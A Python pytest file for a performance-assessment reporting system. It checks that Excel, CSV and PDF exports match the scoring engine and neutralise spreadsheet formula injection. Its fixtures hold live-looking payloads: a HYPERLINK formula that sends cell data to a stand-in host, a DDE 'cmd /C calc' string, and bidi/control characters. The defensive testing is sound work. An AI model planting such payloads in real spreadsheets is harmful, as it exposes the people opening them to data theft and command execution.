"""The Excel workbook and CSV: they open, their values are the engine's, and formulas stay text."""

from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from kaohe.data.setup import ensure_ready
from kaohe.data.warehouse import Warehouse
from kaohe.metrics import service
from kaohe.reports.csvexport import csv_bytes, explanations_csv, rankings_csv
from kaohe.reports.excel import workbook

MONTH = "2026-10"
EVIL_REASON = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"
EVIL_EVIDENCE = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_NAME = "\x01=1+1 区\u202e水务\x07局"
CLEAN_NAME = "'=1+1 区水务局"  # the control characters dropped first, then the formula neutralised


@pytest.fixture(scope="module")
def wh(tmp_path_factory) -> Warehouse:
    wh = Warehouse(tmp_path_factory.mktemp("excel") / "w.duckdb")
    ensure_ready(wh, end=MONTH)
    # Text that arrives from uploads and forms: a unit renamed to a formula, and an adjustment reason.
    units = wh.units()
    units.loc[units["code"] == "D18", "name_zh"] = "-2+3 区测试局"
    units.loc[units["code"] == "D16", "name_zh"] = EVIL_NAME  # control and bidi characters a sheet refuses
    wh.upsert_units(units, actor="tester")
    service.add_adjustment(wh, "S02", MONTH, "deduction", 3, EVIL_REASON, EVIL_EVIDENCE, "tester")
    return wh


@pytest.fixture(scope="module")
def build(wh):
    return service.build(wh, MONTH)


@pytest.fixture(scope="module")
def book(wh, build):
    return load_workbook(io.BytesIO(workbook(wh, MONTH, build=build, actor="tester")))


def header_index(ws) -> dict[str, int]:
    return {str(c.value): c.column for c in ws[1] if c.value is not None}


def test_one_ranking_sheet_per_peer_group_with_the_engines_totals(book, build):
    rank_sheets = [ws for ws in book.worksheets if ws.title.startswith("排名-")]
    assert len(rank_sheets) == build.totals["peer_group"].nunique()
    seen = {}
    for ws in rank_sheets:
        h = header_index(ws)
        for row in ws.iter_rows(min_row=2, values_only=True):
            seen[row[h["代码"] - 1]] = (row[h["总分"] - 1], row[h["名次"] - 1], row[h["指标分"] - 1])
        assert ws.freeze_panes == "C2"
        assert ws.conditional_formatting, ws.title
        assert ws.cell(row=2, column=h["总分"]).number_format == "0.00"
    expected = {r.unit_code: (r.total, r.rank, r.base_score) for r in build.totals.itertuples()}
    assert seen.keys() == expected.keys()
    for code, (total, rank, base) in expected.items():
        assert seen[code][0] == pytest.approx(total, abs=1e-9)
        assert seen[code][1] == rank
        assert seen[code][2] == pytest.approx(base, abs=1e-9)


def test_indicator_matrix_holds_the_engines_values(book, build):
    ws = book["指标矩阵"]
    codes = {c.column: str(c.value).split("\n")[-1] for c in ws[1][3:]}
    ind = build.indicators.set_index(["unit_code", "indicator_code"])
    checked = 0
    for row in ws.iter_rows(min_row=2):
        unit = row[0].value
        for cell in row[3:]:
            key = (unit, codes[cell.column])
            if key in ind.index:
                v = ind.loc[key, "value"]
                assert (cell.value is None) == (v != v), key
                if cell.value is not None:
                    assert cell.value == pytest.approx(v, abs=1e-9)
                    checked += 1
    assert checked > 500
    assert ws.freeze_panes == "D2"


def test_explanation_sheet_reproduces_points(book, build):
    ws = book["得分说明"]
    h = header_index(ws)
    pts = {}
    for row in ws.iter_rows(min_row=2, values_only=True):
        pts[row[h["代码"] - 1]] = pts.get(row[h["代码"] - 1], 0) + (row[h["折算分"] - 1] or 0)
    for r in build.totals.itertuples():
        assert pts[r.unit_code] == pytest.approx(r.base_score, abs=1e-6)


def test_no_cell_in_the_workbook_is_a_formula(book):
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (ws.title, cell.value)
                    texts.append(cell.value)
    assert "'" + EVIL_REASON in texts and "'" + EVIL_EVIDENCE in texts
    assert "'-2+3 区测试局" in texts
    assert CLEAN_NAME in texts
    assert not [x for x in texts if any(c in x for c in "\x01\x07\u202e")]


def test_english_workbook(wh, build):
    book = load_workbook(io.BytesIO(workbook(wh, MONTH, lang="en", build=build, actor="tester")))
    assert any(ws.title.startswith("Rankings-") for ws in book.worksheets)
    assert "Indicator matrix" in book.sheetnames


def test_csv_has_a_bom_and_neutralised_text(wh, build):
    data = rankings_csv(wh, MONTH, build=build)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert "'-2+3 区测试局" in text and "\n-2+3" not in text and ",-2+3" not in text
    assert len(text.strip().splitlines()) == len(build.totals) + 1


def test_csv_keeps_numbers_numeric():
    import pandas as pd

    out = csv_bytes(pd.DataFrame({"a": [-1.5, 2.0], "b": ["-1", "ok"]})).decode("utf-8-sig")
    assert out.splitlines() == ["a,b", "-1.5,-1", "2.0,ok"]  # a number literal, even as text, stays a number
    # a formula is neutralised, however it starts
    out = csv_bytes(pd.DataFrame({"b": ["-1+2", "=1+1", "+A1", "@SUM(A1)", "-2+3 区测试局"]})).decode("utf-8-sig")
    assert out.splitlines() == ["b", "'-1+2", "'=1+1", "'+A1", "'@SUM(A1)", "'-2+3 区测试局"]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_every_csv_export_is_neutralised(wh, build):
    for data in (rankings_csv(wh, MONTH, build=build), explanations_csv(wh, MONTH, build=build)):
        assert data.startswith(b"\xef\xbb\xbf")
        text = data.decode("utf-8-sig")
        assert not any(c in text for c in "\x01\x07\u202e")
        for row in csv.reader(io.StringIO(text)):
            for field in row:
                if not _number(field):  # a negative number stays a number; text never starts a formula
                    assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), field
    assert CLEAN_NAME in rankings_csv(wh, MONTH, build=build).decode("utf-8-sig")


def test_uploaded_text_is_plain_text_in_the_pdfs(wh, build):
    """In a PDF a formula is harmless, but control and bidi characters would reorder or break a line."""
    from kaohe.reports.scorecard import scorecard_pdf
    from kaohe.reports.summary import summary_pdf
    from tests.test_reports_pdf import fonts_of, text_of

    for pdf in (scorecard_pdf(wh, "D16", MONTH, build=build, actor="tester"), scorecard_pdf(wh, "S02", MONTH, build=build, actor="tester"),
                summary_pdf(wh, MONTH, build=build, actor="tester")):
        text = text_of(pdf)
        assert not any(c in text for c in "\x01\x07\u202e")
        assert all(embedded for _, embedded in fonts_of(pdf))
    assert "=1+1 区水务局" in text_of(scorecard_pdf(wh, "D16", MONTH, build=build, actor="tester"))
    assert EVIL_REASON in text_of(scorecard_pdf(wh, "S02", MONTH, build=build, actor="tester")).replace("\n", "")


def test_weights_read_as_percent_and_adjustment_reasons_in_the_language(wh, build):
    book = load_workbook(io.BytesIO(workbook(wh, MONTH, lang="en", build=build, actor="tester")))
    ws = book["Explanations"]
    h = header_index(ws)
    weight = ws.cell(row=2, column=h["Weight"])
    assert weight.number_format == "0.00%" and 0 < weight.value < 1
    assert ws.cell(row=2, column=h["Dimension"]).value == "Citizen requests"
    adj = book["Adjustments"]
    reasons = [row[header_index(adj)["Reason"] - 1] for row in adj.iter_rows(min_row=2, values_only=True)]
    assert "'" + EVIL_REASON in reasons  # typed by hand: shown as typed
    assert "third-party resident survey score of 95 or more" in reasons  # the scheme's own item, in English


def test_adjustments_sheet_in_words_and_local_time(wh, build):
    """Kinds and actors in words, the scheme's evidence in words, the time stored in UTC shown as the
    office's local time (Asia/Shanghai in the tests), and points stay numbers."""
    from datetime import timedelta

    book = load_workbook(io.BytesIO(workbook(wh, MONTH, build=build, actor="tester")))
    ws = book["加减分"]
    h = header_index(ws)
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
    kinds = {r[h["类型"] - 1] for r in rows}
    actors = {r[h["录入人"] - 1] for r in rows}
    assert kinds <= {"加分", "扣分", "否决"} and "tester" in actors
    assert "考核方案（自动计分）" in actors and "scheme" not in actors
    evidence = [r[h["依据"] - 1] for r in rows if r[h["录入人"] - 1] == "考核方案（自动计分）"]
    assert evidence and all("，达到 " in e for e in evidence)  # the build's evidence_zh, in words
    assert not any(re.search(r"[A-Z]{2}_[A-Z]+ = ", e) for e in evidence)
    assert all(isinstance(r[h["分值"] - 1], int | float) for r in rows)
    stored = service.list_adjustments(wh, month=MONTH)
    shown = [r[h["录入时间"] - 1] for r in rows if r[h["录入人"] - 1] == "tester"]
    utc = stored.loc[stored["actor"] == "tester", "created_at"].iloc[0]
    assert abs(shown[0] - (utc.to_pydatetime() + timedelta(hours=8))) < timedelta(minutes=1)


def test_the_ranking_csv_is_for_readers(wh, build):
    """Headers in the reader's language, words not codes, whole numbers whole."""
    for lang, code, rank, veto in (("zh", "代码", "名次", "否决"), ("en", "Code", "Rank", "Veto")):
        rows = list(csv.reader(io.StringIO(rankings_csv(wh, MONTH, lang=lang).decode("utf-8-sig"))))
        header = rows[0]
        assert header[0] == code and rank in header and veto in header
        assert "peer_group" not in header and "unit_code" not in header
        j = header.index(rank)
        assert all(r[j].isdigit() for r in rows[1:])
        vetoes = {r[header.index(veto)] for r in rows[1:]}
        assert vetoes <= {"", "一票否决", "Veto"} and "True" not in vetoes


def _first_sheet_top(data: bytes) -> tuple[list[str], object]:
    book = load_workbook(io.BytesIO(data))
    ws = book.worksheets[0]
    top = [str(ws.cell(row=r, column=1).value or "") for r in range(1, 4)]
    return top, book


def _about(book) -> dict[str, str]:
    ws = book.worksheets[-1]
    return {str(r[0]): str(r[1] or "") for r in ws.iter_rows(values_only=True) if r[0] is not None}


def test_an_export_never_calls_figures_published_that_differ_from_the_published_ones(wh, tmp_path):
    import shutil

    copy = Warehouse(tmp_path / "pub.duckdb")
    shutil.copy(wh.path, copy.path)
    assert service.publish(copy, MONTH, "tester") == 1
    top, book = _first_sheet_top(workbook(copy, MONTH, actor="tester"))
    assert top[0] == "名次" and _about(book)["发布状态"] == "已发布·第 1 版"  # nothing to say: the table starts at once
    service.add_adjustment(copy, "S04", MONTH, "deduction", 2, "信息迟报", None, "tester", correction_reason="补录扣分")
    top, book = _first_sheet_top(workbook(copy, MONTH, actor="tester"))
    assert top[0].startswith("注意：以下为按当前数据计算的结果") and "第 1 版不同" in top[0], top
    assert book.worksheets[0].cell(row=1, column=1).font.bold
    assert top[1] == "名次"  # the table follows the notice
    about = _about(book)
    assert about["发布状态"] == "当前数据（与已发布的第 1 版不同）"
    assert any(k.startswith("注意：") for k in about)
    assert not any("已发布·第" in v for v in about.values())
    # the totals are still read by their headers, under the notice
    ws = book.worksheets[0]
    h = {str(c.value): c.column for c in ws[2] if c.value is not None}
    assert "总分" in h and isinstance(ws.cell(row=3, column=h["总分"]).value, float)
    en, _ = _first_sheet_top(workbook(copy, MONTH, lang="en", actor="tester"))
    assert en[0].startswith("Note: these figures are computed from the current data") and en[0].isascii()
    assert service.publish(copy, MONTH, "tester", reason="补录扣分") == 2
    top, book = _first_sheet_top(workbook(copy, MONTH, actor="tester"))
    assert top[0] == "名次" and _about(book)["发布状态"] == "已发布·第 2 版（更正）"


def test_a_scheme_edited_since_publishing_is_stated_in_the_workbook(wh, tmp_path):
    import shutil

    from test_reports_pdf import edit_weights

    copy = Warehouse(tmp_path / "pub.duckdb")
    shutil.copy(wh.path, copy.path)
    assert service.publish(copy, MONTH, "tester") == 1
    edit_weights(copy)
    top, book = _first_sheet_top(workbook(copy, MONTH, actor="tester"))
    assert top[0].startswith("注意：以下为按当前考核方案内容计算的结果"), top
    assert _about(book)["发布状态"] == "当前数据（与已发布的第 1 版不同）"


def test_a_scheme_of_another_year_is_stated_in_the_workbook(tmp_path):
    wh = Warehouse(tmp_path / "y2024.duckdb")
    ensure_ready(wh, end="2024-06", n_months=2)
    b = service.build(wh, "2024-06")
    note = b.scheme_note("zh")
    top, book = _first_sheet_top(workbook(wh, "2024-06", build=b, actor="tester"))
    assert note and top[0] == note and top[1] == "名次"
    assert note in _about(book)


def test_the_sample_batch_is_named_with_its_seed_in_the_workbook(book):
    about = [str(r[1]) for r in book.worksheets[-1].iter_rows(values_only=True) if r[0] == "数据来源与导入批次"]
    assert about and about[0].startswith("#1 示例区数据（随机种子 20261） · "), about
